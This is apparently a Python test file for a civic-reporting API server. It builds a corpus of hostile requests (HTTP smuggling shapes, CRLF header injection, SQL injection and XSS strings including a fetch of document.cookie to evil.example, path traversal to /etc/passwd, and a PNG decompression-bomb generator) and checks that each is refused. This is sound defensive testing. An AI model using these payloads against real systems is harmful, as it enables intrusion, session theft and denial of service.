"""The bad-input corpus (issue 8): well over a hundred named hostile requests, each answered with
a clear 4xx problem (or the connection cut), nothing written, and the server still serving.

The corpus is data: the lists below name every case, the tests walk them group by group. After
each case the server must still answer /healthz, and the rows of the tables a request could
touch must be as they were, except in the groups whose point is that a hostile string is just
text (SQL injection and script payloads: stored and answered literally, never executed, never
HTML). docs/SECURITY.md ("Bad-input corpus") lists the groups; test_input.py holds the field
validation of report bodies, which this corpus does not repeat.

Run alone: run_api_tests.py --binary build/bin/congdanso -k test_bad_input
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import socket
import struct
import time
import urllib.parse
import zlib

from api_case import ApiCase, tag
from harness import Server, free_port

# Tables a hostile request might write to; each must be unchanged after a refused case.
WATCHED_TABLES = ("reports", "report_timeline", "report_photos", "media", "idempotency_keys",
                  "idea_supports", "report_followers", "citizen_profiles", "consents",
                  "push_subscriptions", "news_items", "dossiers", "dossier_events", "users",
                  "alerts")

# The auxiliary server's read timeout (CDS_READ_TIMEOUT_MS): short, so that slow clients are
# seen cut off within seconds. The socket timeouts below are only how long a test waits for
# the cut, several times longer, never a measure of speed.
AUX_READ_TIMEOUT_MS = 1500
CUT_PATIENCE_S = 20.0

SQL_INJECTIONS = (
    "'; DROP TABLE reports; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DELETE FROM users WHERE 1=1; --",
    "Robert'); DROP TABLE report_timeline;--",
    "' UNION SELECT username, password_hash FROM users --",
    "1' AND (SELECT pg_sleep(5)) IS NULL --",
    "$1 ?1 :name @p0 %s",
)
SCRIPT_PAYLOADS = (
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)
HOSTILE_TEXTS = SQL_INJECTIONS + SCRIPT_PAYLOADS


# --------------------------------------------------------------------------------------------
# Raw HTTP


class Wire:
    """What came back on a raw socket: the first response (if any) and whether the server
    closed the connection."""

    def __init__(self, data: bytes, closed: bool):
        self.data = data
        self.closed = closed
        m = re.match(rb"HTTP/1\.[01] (\d{3})", data)
        self.status = int(m.group(1)) if m else 0
        head, _, self.body = data.partition(b"\r\n\r\n")
        self.head = head.decode("latin-1")
        self.headers: list[tuple[str, str]] = []
        for line in self.head.split("\r\n")[1:]:
            name, _, value = line.partition(":")
            self.headers.append((name.strip().lower(), value.strip()))

    def header(self, name: str) -> str | None:
        return next((v for k, v in self.headers if k == name), None)

    def count(self, name: str) -> int:
        return sum(1 for k, _ in self.headers if k == name)

    def problem(self) -> dict:
        return json.loads(self.body[:int(self.header("content-length") or len(self.body))])

    def __repr__(self) -> str:
        return f"<{self.status} closed={self.closed} {self.data[:400]!r}>"


def wire(port: int, request: bytes | list[bytes], pause: float = 0.0,
         patience: float = 10.0, half_close: bool = False) -> Wire:
    """Sends `request` (or its pieces, `pause` seconds apart) on a fresh connection and reads
    until the server closes it, the first response is whole and the server goes quiet, or
    `patience` runs out."""
    pieces = request if isinstance(request, list) else [request]
    data = b""
    closed = False
    with socket.create_connection(("127.0.0.1", port), timeout=patience) as s:
        try:
            for i, piece in enumerate(pieces):
                if i and pause:
                    time.sleep(pause)
                s.sendall(piece)
            if half_close:
                s.shutdown(socket.SHUT_WR)  # the client is gone, mid-request
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered and closed before reading everything
        deadline = time.monotonic() + patience
        while time.monotonic() < deadline:
            # Once a whole response is in, only a moment more: for a second response (which
            # would be a split or a smuggled request) or the close.
            wait = 0.05 if _whole(data) else min(1.0, deadline - time.monotonic())
            s.settimeout(max(0.05, wait))
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                if _whole(data):
                    break  # answered, and the connection stays open
                continue
            except ConnectionResetError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            data += chunk
    return Wire(data, closed)


def _whole(data: bytes) -> bool:
    head, sep, rest = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    m = re.search(rb"(?i)\r\ncontent-length:\s*(\d+)", head)
    return len(rest) >= int(m.group(1)) if m else True


def request(method: str = "GET", target: str = "/healthz", headers: list[str] | None = None,
            body: bytes = b"", host: bool = True) -> bytes:
    lines = [f"{method} {target} HTTP/1.1"]
    if host:
        lines.append("Host: 127.0.0.1")
    lines += headers or []
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + body


def chunked(*chunks: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"


# --------------------------------------------------------------------------------------------
# Images


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data +
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png(width: int, height: int, rows: bytes | None = None, idat: bytes | None = None) -> bytes:
    if idat is None:
        if rows is None:
            rows = b"".join(b"\x00" + bytes((x * 7 + y) % 256 for x in range(width * 3))
                            for y in range(height))
        idat = zlib.compress(rows, 9)
    return (b"\x89PNG\r\n\x1a\n" +
            png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def png_bomb(side: int = 20000) -> bytes:
    """A `side` x `side` RGB PNG of zeros: 1.2 GB of pixels in about a megabyte. Every byte of
    the image data is zero (filter byte and pixels), so one deflated mebibyte of zeros ending in
    a full flush (which makes it independent of what came before) is repeated, and the Adler-32
    of n zero bytes is (n mod 65521) << 16 | 1."""
    total = side * (1 + side * 3)
    block = 1 << 20
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = z.compress(b"\x00" * block) + z.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(b"\x00" * (total % block)) + last.flush()
    adler = ((total % 65521) << 16) | 1
    idat = b"\x78\xda" + piece * (total // block) + tail + struct.pack(">I", adler)
    return png(side, side, idat=idat)


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares width x height (the data is a few bytes)."""
    return png(width, height, idat=zlib.compress(b"\x00" * 64))


def jpeg_with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The JPEG with its frame header (SOF0/SOF2) saying width x height."""
    out = bytearray(jpeg)
    i = 2
    while i + 9 < len(out):
        assert out[i] == 0xFF, "not at a JPEG marker"
        marker = out[i + 1]
        length = struct.unpack(">H", out[i + 2:i + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            out[i + 5:i + 9] = struct.pack(">HH", height, width)
            return bytes(out)
        i += 2 + length
    raise AssertionError("no frame header in the JPEG")


def multipart(parts: list[tuple[str, str | None, str, bytes]], boundary: str | None = None,
              close: bool = True) -> bytes:
    """(field, filename, content type, data) parts framed with `boundary`."""
    boundary = boundary or "cds" + secrets.token_hex(12)
    out = b""
    for field, filename, ctype, data in parts:
        disposition = f'form-data; name="{field}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        out += (f"--{boundary}\r\nContent-Disposition: {disposition}\r\n"
                f"Content-Type: {ctype}\r\n\r\n").encode("utf-8") + data + b"\r\n"
    if close:
        out += f"--{boundary}--\r\n".encode()
    return out


# --------------------------------------------------------------------------------------------
# The corpus, part 1: raw HTTP framing against the main server. Each case:
# (name, request bytes, accepted statuses; 0 in them: the connection may be cut unanswered).

BIG = "a" * (20 * 1024)
FRAMING_CASES: list[tuple[str, bytes, tuple[int, ...]]] = [
    ("header line of 20 KiB", request(headers=[f"X-Big: {BIG}"]), (431,)),
    ("header name of 20 KiB", request(headers=[f"X-{BIG}: 1"]), (431,)),
    ("300 headers of 100 bytes", request(headers=[f"X-H{i}: {'b' * 90}" for i in range(300)]),
     (431,)),
    ("10,000 tiny headers", request(headers=["a: b"] * 10000), (431,)),
    ("request target of 20 KiB", request(target="/api/v1/reports?q=" + BIG), (414, 431)),
    ("cookie of 20 KiB", request(headers=[f"Cookie: cds_session={BIG}"]), (431,)),
    ("method that is not a token", b"G@T /healthz HTTP/1.1\r\nHost: x\r\n\r\n", (400,)),
    ("method of 1 KiB", request(method="X" * 1024), (400, 405, 501)),
    ("unknown method", request(method="BREW"), (400, 405, 501)),
    ("lower-case method", request(method="get"), (400, 405, 501)),
    ("HTTP/2.0 on an HTTP/1.1 port", b"GET /healthz HTTP/2.0\r\nHost: x\r\n\r\n", (400, 505)),
    ("HTTP/9.9", b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n", (400, 505)),
    ("version with trailing junk", b"GET /healthz HTTP/1.1x\r\nHost: x\r\n\r\n", (400,)),
    ("HTTP/2 connection preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400, 505)),
    ("TLS ClientHello on plain HTTP", bytes.fromhex("16030100a5010000a10303") + b"\x00" * 64,
     (400,)),
    ("NUL byte in the target", b"GET /heal\x00thz HTTP/1.1\r\nHost: x\r\n\r\n", (400,)),
    ("NUL byte in a header value", b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n",
     (400,)),
    ("bare CR in a header value", b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\rb\r\n\r\n",
     (400,)),
    ("space before the colon", b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A : b\r\n\r\n", (400,)),
    ("header line without a colon", b"GET /healthz HTTP/1.1\r\nHost: x\r\nnocolon\r\n\r\n",
     (400,)),
    ("empty header name", b"GET /healthz HTTP/1.1\r\nHost: x\r\n: v\r\n\r\n", (400,)),
    ("HTTP/1.1 without Host", request(host=False), (400,)),
    ("two Host headers", request(headers=["Host: other.example"]), (400,)),
    ("space in the target", b"GET /heal thz HTTP/1.1\r\nHost: x\r\n\r\n", (400,)),
    ("target without a slash", request(target="api/v1/categories"), (400, 404)),
    ("asterisk target on GET", request(target="*"), (400, 404)),
    ("target without a slash, with a scheme-less host", request(target="evil.example/healthz"),
     (400,)),
    ("authority-form target", request(method="CONNECT", target="evil.example:443"),
     (400, 404, 405)),
    ("Content-Length over the limit, no body sent",
     request("POST", "/api/v1/reports", ["Content-Type: application/json",
                                         "Content-Length: 104857600"]), (413,)),
    ("Content-Length of 2^64", request("POST", "/api/v1/reports",
                                       ["Content-Length: 18446744073709551616"]), (400, 413)),
    ("negative Content-Length", request("POST", "/api/v1/reports", ["Content-Length: -1"]),
     (400,)),
    ("Content-Length not a number", request("POST", "/api/v1/reports", ["Content-Length: ten"]),
     (400,)),
    ("Content-Length with a plus sign", request("POST", "/api/v1/reports",
                                                ["Content-Length: +2"], b"{}"), (400,)),
    ("two different Content-Lengths",
     request("POST", "/api/v1/reports", ["Content-Length: 2", "Content-Length: 40"], b"{}"),
     (400,)),
    ("Content-Length list with different values",
     request("POST", "/api/v1/reports", ["Content-Length: 2, 40"], b"{}"), (400,)),
    ("Content-Length and chunked together (smuggling shape)",
     request("POST", "/api/v1/reports",
             ["Content-Type: application/json", "Content-Length: 4",
              "Transfer-Encoding: chunked"],
             b"5c\r\n{}\r\n0\r\n\r\nGET /api/v1/me HTTP/1.1\r\nHost: x\r\n\r\n"), (400,)),
    ("chunked not last in Transfer-Encoding",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked, identity"], b"2\r\n{}"),
     (400, 501)),
    ("unknown transfer coding", request("POST", "/api/v1/reports", ["Transfer-Encoding: xchunked"],
                                        b"{}"), (400, 501)),
    ("chunk size that is not hex",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"], b"zz\r\n{}\r\n0\r\n\r\n"),
     (400,)),
    ("chunk size that overflows 64 bits",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"],
             b"fffffffffffffffffff\r\n{}\r\n0\r\n\r\n"), (400, 413)),
    ("chunk declared larger than the limit",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"],
             b"6400000\r\n" + b"{" * 4096), (400, 413)),
    ("chunked body over the limit in small chunks",
     request("POST", "/api/v1/reports", ["Content-Type: application/json",
                                         "Transfer-Encoding: chunked"],
             chunked(*([b"x" * 1024] * 1100))), (413,)),
    ("chunk extension of 20 KiB",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"],
             b"2;" + BIG.encode() + b"\r\n{}\r\n0\r\n\r\n"), (400, 401, 413, 431)),
    ("chunk extension of 2 MiB",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"],
             b"2;" + b"e" * (2 << 20) + b"\r\n{}\r\n0\r\n\r\n"), (0, 400, 413, 431)),
    ("chunk without its CRLF",
     request("POST", "/api/v1/reports", ["Transfer-Encoding: chunked"], b"2\r\n{}XX0\r\n\r\n"),
     (400,)),
    ("Expect: 100-continue with a body over the limit",
     request("POST", "/api/v1/reports", ["Content-Type: application/json",
                                         "Content-Length: 104857600", "Expect: 100-continue"]),
     (413,)),
    ("body cut short, then the client closes",
     request("POST", "/api/v1/reports", ["Content-Type: application/json",
                                         "Content-Length: 500"], b'{"kind":'), (0, 400, 408)),
]

# Header injection: CR/LF hidden in values the server might echo. Each (name, request): the
# answer must be one response whose header block holds no line the client wrote.
INJECTED = "Set-Cookie: cds_session=stolen"
INJECTION_CASES: list[tuple[str, str, list[str]]] = [
    ("X-Request-Id with encoded CRLF", "/healthz", [f"X-Request-Id: a%0d%0a{INJECTED}"]),
    ("X-Request-Id with a UTF-8 line separator", "/healthz", ["X-Request-Id: a\u2028b"]),
    ("X-Request-Id of 1 KiB", "/healthz", ["X-Request-Id: " + "r" * 1024]),
    ("Idempotency-Key with encoded CRLF", "/api/v1/reports",
     [f"Idempotency-Key: k%0d%0a{INJECTED}"]),
    ("Accept-Language with encoded CRLF", "/api/v1/categories",
     [f"Accept-Language: en%0d%0a{INJECTED}"]),
    ("obs-fold continuation line smuggling a header", "/healthz",
     ["X-A: a", f" {INJECTED}"]),
    ("dossier code with encoded CRLF", f"/api/v1/dossiers/AB%0d%0a{INJECTED.replace(' ', '%20')}",
     []),
    ("media id with encoded CRLF", "/api/v1/media/x%0d%0aLocation:%20http://evil.example", []),
    ("Last-Event-ID with encoded CRLF", "/api/v1/events/stream",
     [f"Last-Event-ID: 1%0d%0a{INJECTED}"]),
    ("sign-in return_to with encoded CRLF",
     "/api/v1/auth/vneid/start?return_to=/app%0d%0aSet-Cookie:%20cds_session=stolen", []),
    ("sign-in return_to to another site", "/api/v1/auth/vneid/start?return_to=//evil.example/x",
     []),
    ("CSV export date with encoded CRLF (the file name)",
     "/api/v1/staff/stats?format=csv&from=2026-01-01%0d%0aX-Stolen:%201", []),
    ("CSV ranking month with encoded CRLF (the file name)",
     "/api/v1/staff/stats/ranking?format=csv&month=2026-01%0d%0aX-Stolen:%201", []),
]

# --------------------------------------------------------------------------------------------
# The corpus, part 2: JSON bodies on POST /api/v1/reports beyond test_input.py's field checks.
# (name, raw body, content type, accepted statuses)

GOOD = {"kind": "report", "category": "dien_luc", "description": "Đèn đường không sáng",
        "lat": 10.7725, "lon": 106.698}


def body_with(raw_description: bytes) -> bytes:
    return (b'{"kind":"report","category":"dien_luc","lat":10.7725,"lon":106.698,'
            b'"description":"' + raw_description + b'"}')


def good_json(**over) -> bytes:
    return json.dumps({**GOOD, **over}, ensure_ascii=False).encode()


JSON_CASES: list[tuple[str, bytes, str, tuple[int, ...]]] = [
    ("array nested 100,000 deep", b"[" * 100000 + b"]" * 100000, "application/json", (400,)),
    ("object nested 10,000 deep", b'{"a":' * 10000 + b"1" + b"}" * 10000, "application/json",
     (400,)),
    ("description nested 200 deep", body_with(b"x").replace(
        b'"description":"x"', b'"description":' + b"[" * 200 + b"]" * 200), "application/json",
     (400, 422)),
    ("number 1e999", good_json().replace(b"10.7725", b"1e999"), "application/json", (400, 422)),
    ("integer of 400 digits", good_json().replace(b"10.7725", b"9" * 400), "application/json",
     (400, 422)),
    ("NaN literal", good_json().replace(b"10.7725", b"NaN"), "application/json", (400,)),
    ("Infinity literal", good_json().replace(b"10.7725", b"Infinity"), "application/json",
     (400,)),
    ("hex number", good_json().replace(b"10.7725", b"0x10"), "application/json", (400,)),
    ("leading zeros", good_json().replace(b"10.7725", b"010.7725"), "application/json", (400,)),
    ("single-quoted strings", b"{'kind':'report'}", "application/json", (400,)),
    ("comment in JSON", b'{/* c */"kind":"report"}', "application/json", (400,)),
    ("trailing comma", good_json()[:-1] + b",}", "application/json", (400,)),
    ("unterminated string", b'{"description":"abc', "application/json", (400,)),
    ("raw control character in a string", body_with(b"a\x01b"), "application/json", (400,)),
    ("raw newline in a string", body_with(b"a\nb"), "application/json", (400,)),
    ("lone high surrogate escape", body_with(b"a\\ud800b"), "application/json", (400, 422)),
    ("lone low surrogate escape", body_with(b"a\\udc00b"), "application/json", (400, 422)),
    ("NUL escape in the text", body_with(b"a\\u0000b"), "application/json", (400, 422)),
    ("bad escape", body_with(b"a\\qb"), "application/json", (400,)),
    ("overlong UTF-8 slash", body_with(b"a\xc0\xafb"), "application/json", (400,)),
    ("overlong UTF-8 NUL", body_with(b"a\xc0\x80b"), "application/json", (400,)),
    ("UTF-8 encoded surrogate", body_with(b"a\xed\xa0\x80b"), "application/json", (400,)),
    ("code point above U+10FFFF", body_with(b"a\xf4\x90\x80\x80b"), "application/json", (400,)),
    ("five-byte UTF-8 form", body_with(b"a\xf8\x88\x80\x80\x80b"), "application/json", (400,)),
    ("multibyte sequence cut at the end", body_with(b"\xe1\xba"), "application/json", (400,)),
    ("lone continuation byte", body_with(b"a\x80b"), "application/json", (400,)),
    ("Latin-1 text", body_with("Đường".encode("utf-8").replace(b"\xc4\x90", b"\xd0")),
     "application/json", (400,)),
    ("UTF-16 body", good_json().decode().encode("utf-16"), "application/json", (400,)),
    ("UTF-8 byte order mark", b"\xef\xbb\xbf" + good_json(), "application/json", (400,)),
    ("JSON null", b"null", "application/json", (400,)),
    ("JSON number", b"42", "application/json", (400,)),
    ("two JSON objects", good_json() + good_json(), "application/json", (400,)),
    ("100,000 unknown keys",
     b"{" + b",".join(b'"k%d":1' % i for i in range(100000)) + b"}", "application/json",
     (413, 422)),
    ("photos list of 20,000 ids", good_json(photos=["x"] * 20000), "application/json",
     (413, 422)),
    ("description of 50,000 characters", good_json(description="ệ" * 50000), "application/json",
     (413, 422)),
    ("description of zero-width spaces only", good_json(description="\u200b" * 20),
     "application/json", (422,)),
    ("description of control characters only", good_json(description="\u0007\u0008\u001b"),
     "application/json", (422,)),
    ("address as an object", good_json(address={"$ne": ""}), "application/json", (422,)),
    ("category as a list", good_json(category=["dien_luc"]), "application/json", (422,)),
    ("kind as an empty string", good_json(kind=""), "application/json", (422,)),
    ("lat as a nested object", good_json(lat={"lat": 10.77}), "application/json", (422,)),
    ("ward as SQL", good_json(ward="' OR '1'='1"), "application/json", (422,)),
    ("category as SQL", good_json(category="dien_luc' --"), "application/json", (422,)),
    ("channel as script", good_json(channel="<script>"), "application/json", (422,)),
    ("gzip-encoded body", zlib.compress(good_json()), "application/json", (400, 415)),
    ("JSON sent as text/html", good_json(), "text/html", (415,)),
    ("JSON with charset latin1", good_json(), "application/json; charset=iso-8859-1",
     (400, 415)),
    ("no content type", good_json(), "", (415,)),
    ("JSON as application/jsonp", good_json(), "application/jsonp", (415,)),
    ("JSON with charset utf-16", good_json(), "application/json; charset=utf-16", (415,)),
]

# --------------------------------------------------------------------------------------------
# The corpus, part 3: uploads (POST /api/v1/media). (name, builder of (body, content type)).
# The builders that need a real JPEG get the one the server made from a PNG in setUpClass.


def upload_cases(jpeg: bytes) -> list[tuple[str, bytes, str, tuple[int, ...]]]:
    b = "cds" + secrets.token_hex(12)
    mp = f"multipart/form-data; boundary={b}"
    good_png = png(64, 48)

    def one(filename: str, ctype: str, data: bytes) -> bytes:
        return multipart([("file", filename, ctype, data)], b)

    return [
        ("truncated JPEG (half)", one("a.jpg", "image/jpeg", jpeg[:len(jpeg) // 2]), mp,
         (415, 422)),
        ("JPEG without its end marker", one("a.jpg", "image/jpeg", jpeg[:-2]), mp, (415, 422)),
        ("JPEG header only", one("a.jpg", "image/jpeg", jpeg[:20]), mp, (415, 422)),
        ("truncated PNG (inside IDAT)", one("a.png", "image/png", good_png[:len(good_png) - 40]),
         mp, (415, 422)),
        ("PNG signature only", one("a.png", "image/png", good_png[:8]), mp, (415, 422)),
        ("text file named .jpg", one("photo.jpg", "image/jpeg", b"Day la van ban\n" * 100), mp,
         (415, 422)),
        ("HTML with script named .jpg",
         one("photo.jpg", "image/jpeg", b"<html><script>alert(1)</script></html>" * 10), mp,
         (415, 422)),
        ("SVG with script named .png",
         one("a.png", "image/png",
             b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
             b'<image href="file:///etc/passwd"/></svg>'), mp, (415, 422)),
        ("PNG decompression bomb 20000x20000", one("bomb.png", "image/png", png_bomb()), mp,
         (413, 415, 422)),
        ("PNG declaring 2^31-1 x 2^31-1", one("a.png", "image/png",
                                               png_declaring(2**31 - 1, 2**31 - 1)), mp,
         (413, 415, 422)),
        ("PNG declaring 1 x 100,000,000", one("a.png", "image/png",
                                              png_declaring(1, 100_000_000)), mp,
         (413, 415, 422)),
        ("PNG declaring 0 x 0", one("a.png", "image/png", png_declaring(0, 0)), mp,
         (415, 422)),
        ("JPEG declaring 65500 x 65500", one("a.jpg", "image/jpeg",
                                             jpeg_with_size(jpeg, 65500, 65500)), mp,
         (413, 415, 422)),
        ("JPEG declaring 0 x 0", one("a.jpg", "image/jpeg", jpeg_with_size(jpeg, 0, 0)), mp,
         (415, 422)),
        ("zero-byte file", one("a.jpg", "image/jpeg", b""), mp, (415, 422)),
        ("wrong boundary in the body", multipart([("file", "a.png", "image/png", good_png)],
                                                 "other" + secrets.token_hex(8)), mp, (400, 422)),
        ("no boundary parameter", one("a.png", "image/png", good_png), "multipart/form-data",
         (400, 415, 422)),
        ("boundary of 200 characters",
         multipart([("file", "a.png", "image/png", good_png)], "b" * 200),
         "multipart/form-data; boundary=" + "b" * 200, (400, 422)),
        ("no closing boundary", multipart([("file", "a.png", "image/png", good_png)], b,
                                          close=False), mp, (400, 422)),
        ("two file parts", multipart([("file", "a.png", "image/png", good_png),
                                      ("file", "b.png", "image/png", good_png)], b), mp, (422,)),
        ("part without a name", f"--{b}\r\nContent-Type: image/png\r\n\r\n".encode() +
         good_png + f"\r\n--{b}--\r\n".encode(), mp, (400, 422)),
        ("part header of 70 KiB", f"--{b}\r\nX-Pad: {'p' * 70000}\r\n".encode() +
         one("a.png", "image/png", good_png)[len(b) + 4:], mp, (400, 413, 422)),
        ("image sent as JSON content type", good_png, "application/json", (400, 415)),
        ("image sent raw as image/png", good_png, "image/png", (400, 415)),
    ]


# --------------------------------------------------------------------------------------------
# The corpus, part 4: path traversal against the static files (on the auxiliary server, which
# serves a small web build). The answer is 4xx, a redirect within the site, or a file of the
# build — never anything from outside it.

TRAVERSALS = [
    "/app/../../etc/passwd",
    "/app/../../../../../../etc/passwd",
    "/app/%2e%2e/%2e%2e/etc/passwd",
    "/app/%2E%2E/%2E%2E/%2E%2E/etc/passwd",
    "/app/..%2f..%2f..%2fetc%2fpasswd",
    "/app/%2e%2e%2f%2e%2e%2fsecret.txt",
    "/app/..%5c..%5csecret.txt",
    "/app/..\\..\\secret.txt",
    "/app/%252e%252e/%252e%252e/secret.txt",
    "/app/%25252e%25252e%25252fsecret.txt",
    "/app/..%00/secret.txt",
    "/app/index.html%00.png",
    "/app/%c0%ae%c0%ae/secret.txt",
    "/app/.%2e/.%2e/secret.txt",
    "/app/./../secret.txt",
    "/app/....//....//secret.txt",
    "/app/..;/secret.txt",
    "/assets/../secret.txt",
    "/assets/%2e%2e/%2e%2e/etc/passwd",
    "/assets/..%2fsecret.txt",
    "/assets/..%5csecret.txt",
    "/staff/../../secret.txt",
    "/staff/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "//etc/passwd",
    "/app//etc/passwd",
    "/app/%2fetc%2fpasswd",
    "/..%2fsecret.txt",
    "/%2e%2e/secret.txt",
    "/assets/file:///etc/passwd",
    "/app/%00",
]

# --------------------------------------------------------------------------------------------
# The corpus, part 5: query parameters with SQL and script (reads: 200 or 400, never 500, and
# no table harmed). (name, path with the payload in place of {}).

QUERY_TARGETS = [
    ("procedure search q", "/api/v1/procedures?q={}"),
    ("news search q", "/api/v1/news?q={}"),
    ("public report list q", "/api/v1/reports?q={}"),
    ("public report list after", "/api/v1/reports?after={}"),
    ("public report list near", "/api/v1/reports?near={}"),
    ("report id in the path", "/api/v1/reports/{}"),
    ("dossier code in the path", "/api/v1/dossiers/{}"),
    ("area locate lat", "/api/v1/areas/locate?lat={}&lon=106.7"),
    ("map reports bbox", "/api/v1/map/reports?bbox={}"),
    ("procedure code in the path", "/api/v1/procedures/{}"),
]
STAFF_QUERY_TARGETS = [
    ("staff list q", "/api/v1/staff/reports?q={}"),
    ("staff list category", "/api/v1/staff/reports?category={}"),
    ("staff list ward", "/api/v1/staff/reports?ward={}"),
]


# Fields of the citizen's own settings that hold a code or a URL, not free text: a hostile text
# there is refused (4xx) and changes nothing. (name, method, path, body; {} is the text.)
CODE_FIELDS = [
    ("home ward", "PUT", "/api/v1/me/home-ward", {"ward": "{}"}),
    ("consent purpose in the path", "PUT", "/api/v1/me/consents/{}", {"granted": True}),
    ("shared location ward", "PUT", "/api/v1/me/location",
     {"lat": 10.7725, "lon": 106.698, "ward": "{}"}),
    ("notification preference kind", "PUT", "/api/v1/notifications/preferences",
     {"items": [{"kind": "{}", "channel": "push", "enabled": True}]}),
    ("push subscription endpoint", "POST", "/api/v1/push/subscriptions",
     {"endpoint": "{}", "keys": {"p256dh": "{}", "auth": "{}"}}),
]


def corpus_size() -> int:
    uploads = 24  # upload_cases() needs a JPEG from the server; its length is checked there
    return (len(FRAMING_CASES) + len(INJECTION_CASES) + len(JSON_CASES) + uploads +
            len(TRAVERSALS) + len(SLOW_CASES) +
            len(HOSTILE_TEXTS) * (len(TEXT_FIELDS) + len(QUERY_TARGETS) + len(STAFF_QUERY_TARGETS) +
                                  len(CODE_FIELDS)))


# Slow clients, against the auxiliary server with its short read timeout.
SLOW_CASES = ("request line a byte a second", "headers a line every 600 ms without end",
              "body a byte a second", "connection opened and silent",
              "chunked body a chunk a second without end")

# Every text field of the public writes, each sent every hostile text.
TEXT_FIELDS = ("report description", "report address", "idea description",
               "phone intake caller name", "withdraw reason", "reopen reason", "rating comment",
               "reject reason", "resolve result", "news preview body")


class BadInputCorpusTest(ApiCase):
    """The corpus, group by group. Each case checks its answer, the server's health and the
    watched tables."""

    aux: Server | None = None
    aux_dir = ""
    jpeg = b""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        from api_case import ENV
        assert ENV is not None
        # A small web build with a secret beside it (outside the build) for the traversal
        # cases, and a short read timeout for the slow clients.
        cls.aux_dir = os.path.join(ENV.tmp, "bad-input-" + secrets.token_hex(4))
        web = os.path.join(cls.aux_dir, "site", "dist")
        for section in ("app", "staff"):
            os.makedirs(os.path.join(web, section), exist_ok=True)
            with open(os.path.join(web, section, "index.html"), "w") as f:
                f.write(f"<!doctype html><title>{section} shell</title>")
        os.makedirs(os.path.join(web, "assets"), exist_ok=True)
        with open(os.path.join(web, "assets", "app-0123abcd.js"), "w") as f:
            f.write("console.log('app');")
        cls.secret = "SECRET-OUTSIDE-THE-BUILD-" + secrets.token_hex(8)
        for where in (os.path.join(cls.aux_dir, "site"), cls.aux_dir):
            with open(os.path.join(where, "secret.txt"), "w") as f:
                f.write(cls.secret)
        env = dict(ENV.proc_env, CDS_WEB_DIR=web, CDS_READ_TIMEOUT_MS=str(AUX_READ_TIMEOUT_MS))
        cls.aux = Server(ENV.binary, ENV.db_url, ENV.data_dir,
                         os.path.join(cls.aux_dir, "server.log"), env=env)
        cls.aux.port = free_port()
        cls.aux.start()

    @classmethod
    def tearDownClass(cls):
        if cls.aux is not None:
            cls.aux.stop()
        shutil.rmtree(cls.aux_dir, ignore_errors=True)
        super().tearDownClass()

    # -- helpers

    def snapshot(self) -> dict[str, int]:
        sql = "SELECT " + ", ".join(f"(SELECT count(*) FROM {t})" for t in WATCHED_TABLES)
        return dict(zip(WATCHED_TABLES, (int(n) for n in self.env.query(sql)[0])))

    def assertServing(self, what: str, port: int | None = None) -> None:
        r = wire(port or self.env.server.port, request(headers=["Connection: close"]),
                 patience=15)
        self.assertEqual(r.status, 200, f"after {what}: /healthz answered {r!r}")

    def assertUnchanged(self, before: dict[str, int], what: str) -> None:
        after = self.snapshot()
        changed = {t: (before[t], after[t]) for t in before if before[t] != after[t]}
        self.assertEqual(changed, {}, f"{what}: rows written")

    def assertWireProblem(self, r: Wire, accepted: tuple[int, ...], what: str) -> None:
        if r.status == 0:
            self.assertIn(0, accepted, f"{what}: no answer, {r!r}")
            self.assertTrue(r.closed, f"{what}: neither answered nor cut off")
            return
        self.assertIn(r.status, accepted, f"{what}: {r!r}")
        self.assertEqual(r.header("content-type"), "application/problem+json", f"{what}: {r!r}")
        p = r.problem()
        self.assertEqual(p["status"], r.status, what)
        self.assertTrue(p.get("title") and p.get("code"), f"{what}: {p}")

    def upload(self, token: str, body: bytes, ctype: str):
        return self.http.post("/api/v1/media", raw=body, content_type=ctype, token=token)

    # -- the groups

    def test_corpus_has_at_least_100_cases(self):
        self.assertGreaterEqual(corpus_size(), 100)
        self.assertEqual(len(upload_cases(self.sample_jpeg())), 24)

    def test_framing_abuse_is_refused_or_cut(self):
        for name, raw, accepted in FRAMING_CASES:
            with self.subTest(name):
                before = self.snapshot()
                r = wire(self.env.server.port, raw, half_close="client closes" in name)
                self.assertWireProblem(r, accepted, name)
                self.assertNotIn(b"HTTP/1.1 2", r.data, f"{name}: something succeeded: {r!r}")
